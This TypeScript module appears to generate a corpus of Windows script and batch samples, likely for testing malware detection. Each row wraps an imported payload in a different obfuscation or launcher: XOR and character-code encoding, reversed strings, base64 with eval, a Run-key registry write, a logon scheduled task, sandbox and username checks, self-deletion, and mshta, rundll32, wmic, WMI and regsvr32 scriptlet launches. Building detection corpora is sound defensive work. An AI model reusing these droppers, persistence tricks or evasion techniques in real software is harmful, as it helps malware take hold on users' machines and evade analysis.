import { base64, type Row } from './sample.ts';
import { commands, inBasic, inScript, oneLine, runKey, script } from './windows-payload.ts';

const codes = (text: string) => [...Buffer.from(text)];
const chars = (text: string) => codes(text).map((code) => `ChrW(${code + 9}-9)`).join('&');
const inLines = (text: string, size = 40) => codes(text).reduce<number[][]>((rows, code, index) => {
  if (index % size === 0) rows.push([]);
  rows.at(-1)!.push(code);
  return rows;
}, []);
const other = (text: string) => text.replaceAll('"', '""');
const doubled = (text: string) => JSON.stringify(text);
const shell = 'CreateObject("WScript.Shell")';
const viaBatch = (file: string, text: string, start: string): string =>
  script('@echo off', ...text.split('\r\n').filter(Boolean).map((line, index) =>
    `>${index ? '>' : ''}${file} echo ${line.replace(/[&|<>^()]/g, '^$&')}`), start);
const xsl =
  '<?xml version="1.0"?><package><component id="x"><script language="VBScript"><![CDATA[\r\n'
    + `${inBasic}]]></script></component></package>\r\n`;
const remoteObject = `<job id="a"><script language="VBScript">\r\n${inBasic}</script></job>\r\n`;
const task =
  '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><LogonTrigger/></Triggers><Act'
    + 'ions><Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec></Actions></Task>';

/** Scripts for Windows Script Host, and batch files that hand over to another program. */
export const inScripts: Row[] = [
  ['vbs', 'by objects of Windows Script Host', 'ba.vbs', inBasic],
  [
    'vbs-execute',
    'letters by number, executed',
    'bb.vbs',
    script(
      'Dim t',
      ...inLines(inBasic).map((row) => `t = t & ${row.map((code) => `ChrW(${code + 9}-9)`).join('&')}`),
      'Execute t',
    ),
  ],
  [
    'vbs-reversed',
    'backwards',
    'bc.vbs',
    script(`Execute StrReverse("${other([...inBasic.trim().replace(/\r\n/g, ':')].reverse().join(''))}")`),
  ],
  [
    'vbs-xor',
    'turned numbers',
    'bd.vbs',
    script(
      't = ""',
      `For Each n In Array(${codes(inBasic.trim().replace(/\r\n/g, ':')).map((code) => code ^ 77).join(',')})`,
      't = t & Chr(n Xor 77)',
      'Next',
      'ExecuteGlobal t',
    ),
  ],
  [
    'vbs-parts',
    'names of objects in parts',
    'be.vbs',
    script(
      `Set s = CreateObject("WSc" & "ript.S" & "hell")`,
      `s.RegWrite ${chars(`${runKey}\\Updater`)}, "u.exe"`,
      ...commands.slice(1).map((one) => `s.Run ${chars(one)}, 0, True`),
    ),
  ],
  ['vbs-sleep', 'sleeps first', 'bf.vbs', script('WScript.Sleep 300000') + inBasic],
  [
    'vbs-clock',
    'waits in a loop over the time',
    'bg.vbs',
    script('t = Timer', 'Do While Timer - t < 30 And Timer >= t', 'WScript.Sleep 500', 'Loop') + inBasic,
  ],
  [
    'vbs-user',
    'looks who is there',
    'bh.vbs',
    script(
          `u = LCase(${shell}.ExpandEnvironmentStrings("%USERNAME%%COMPUTERNAME%"))`,
          'If InStr(u, "sandbox") + InStr(u, "malware") > 0 Then WScript.Quit',
        )
      + inBasic,
  ],
  [
    'vbs-errors',
    'carries on over errors',
    'bi.vbs',
    script('On Error Resume Next', 'x = 1 / 0', 'CreateObject("No.Such").Do') + inBasic,
  ],
  [
    'vbs-file',
    'writes a batch file and starts it',
    'bj.vbs',
    script(
      'Set f = CreateObject("Scripting.FileSystemObject")',
      `p = f.GetSpecialFolder(2) & "\\n.bat"`,
      'Set t = f.CreateTextFile(p, True)',
      ...commands.map((one) => `t.WriteLine ${chars(one)}`),
      't.Close',
      `${shell}.Run "cmd /c " & p, 0, True`,
    ),
  ],
  [
    'vbs-self',
    'deletes itself first',
    'bk.vbs',
    script('CreateObject("Scripting.FileSystemObject").DeleteFile WScript.ScriptFullName') + inBasic,
  ],
  [
    'vbs-application',
    'another object starts it',
    'bl.vbs',
    script(
      'Set a = CreateObject("Shell.Application")',
      ...commands.map((one) => `a.ShellExecute "cmd.exe", "/c ${one}", "", "open", 0`),
      'WScript.Sleep 3000',
    ),
  ],
  [
    'vbs-wmi',
    'the management service starts it',
    'bm.vbs',
    script(
      'On Error Resume Next',
      'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
      ...commands.map((one) => `w.Create "cmd /c ${one}", Null, Null, p`),
      'WScript.Sleep 2000',
    ),
  ],
  ['js', 'the same in JScript', 'bn.js', inScript],
  [
    'js-eval',
    'letters by number, evaluated',
    'bo.js',
    script(`eval(String.fromCharCode(${codes(inScript).join(',')}));`),
  ],
  [
    'js-turned',
    'turned numbers',
    'bp.js',
    script(
      `var a=[${codes(inScript).map((code) => code ^ 33).join(',')}],t="";`,
      'for (var i=0;i<a.length;i++) t+=String.fromCharCode(a[i]^33);',
      '(new Function(t))();',
    ),
  ],
  [
    'js-names',
    'names of members out of a table',
    'bq.js',
    script(
      `var o=["WScript","Shell","Run",${commands.map(doubled).join(',')}];`,
      'var s=new ActiveXObject(o[0]+"."+o[1]);',
      'for (var i=3;i<o.length;i++) s[o[2]]("cmd /c "+o[i],0,true);',
    ),
  ],
  ['js-sleep', 'sleeps first', 'br.js', script('WScript.Sleep(240000);') + inScript],
  [
    'js-exec',
    'with its streams open',
    'bs.js',
    script(
      'var s=new ActiveXObject("WScript.Shell");',
      ...commands.map((one) => `var e=s.Exec(${doubled(`cmd /c ${one}`)}); while(e.Status==0) WScript.Sleep(50);`),
    ),
  ],
  ['wsf', 'a job with a script in it', 'bt.wsf', remoteObject],
  [
    'bat-vbs',
    'a batch file writes a script',
    'bu.bat',
    viaBatch('%TEMP%\\v.vbs', inBasic, 'wscript //b %TEMP%\\v.vbs'),
  ],
  [
    'bat-js',
    'a batch file that is a script too',
    'bv.bat',
    `@if (@a==@b) @end /*\r\n@echo off\r\nwscript //b //e:jscript "%~f0"\r\nexit /b\r\n*/\r\n${inScript}`,
  ],
  [
    'bat-mshta',
    'through mshta',
    'bw.bat',
    script(
      '@echo off',
      ...commands.map((one) => `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""${one}"",0:close")`),
    ),
  ],
  [
    'bat-rundll32',
    'through rundll32',
    'bx.bat',
    script(
      '@echo off',
      ...commands.map((one) => `rundll32 shell32.dll,ShellExec_RunDLL cmd /c ${one}`),
      'ping -n 3 127.0.0.1 >nul',
    ),
  ],
  [
    'bat-regsvr32',
    'through regsvr32 and a scriptlet',
    'by.bat',
    viaBatch('%TEMP%\\x.sct', xsl, `regsvr32 /s /n /u /i:%TEMP%\\x.sct scrobj.dll & ${oneLine}`),
  ],
  [
    'bat-start',
    'through the program that opens files',
    'bz.bat',
    script('@echo off', ...commands.map((one) => `start /wait /min "" cmd /c "${one}"`)),
  ],
  [
    'bat-task',
    'through a task from a file',
    'ca.bat',
    script(
      '@echo off',
      `> %TEMP%\\t.xml echo ${task.replace(/[<>&|]/g, '^$&')}`,
      'schtasks /create /tn Updater /xml %TEMP%\\t.xml /f',
      ...commands,
    ),
  ],
  [
    'bat-wmic',
    'through wmic',
    'cb.bat',
    script('@echo off', ...commands.map((one) => `wmic process call create "cmd /c ${one}"`)),
  ],
  [
    'base64-js',
    'base64, opened by hand',
    'cc.js',
    script(
      'var c="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",r="",b=0,n=0;',
      `var t="${[...base64(inScript)].reverse().join('')}".split("").reverse().join("");`,
      'for (var i=0;i<t.length;i++){var k=c.indexOf(t.charAt(i)); if(k<0) continue; b=(b<<6)|k; n+=6; '
        + 'if(n>=8){n-=8; r+=String.fromCharCode((b>>n)&255);}}',
      'eval(r);',
    ),
  ],
  [
    'echo-batch',
    'lines fed to a shell',
    'cd.bat',
    script('@echo off', ...commands.map((one) => `echo ${one}| cmd /q`)),
  ],
];

